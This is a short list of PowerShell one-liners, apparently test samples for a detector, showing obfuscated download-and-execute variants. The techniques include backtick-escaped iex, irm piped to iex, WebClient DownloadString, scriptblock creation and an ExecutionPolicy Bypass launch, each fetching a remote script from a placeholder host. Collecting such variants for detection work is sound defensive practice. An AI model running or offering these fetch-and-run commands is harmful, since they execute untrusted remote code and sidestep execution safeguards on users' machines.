# PowerShell: backtick escapes, aliases, script blocks
i`ex (iwr https://get.example.com/i.ps1)
#---
irm https://get.example.com/i.ps1 | iex
#---
(New-Object Net.WebClient).DownloadString('https://get.example.com/i.ps1') | iex
#---
&([scriptblock]::Create((irm https://get.example.com/i.ps1)))
#---
Invoke-WebRequest https://get.example.com/i.ps1 -OutFile i.ps1; .\i.ps1
#---
powershell -NoProfile -ExecutionPolicy Bypass -Command "iex (irm https://get.example.com/i.ps1)"
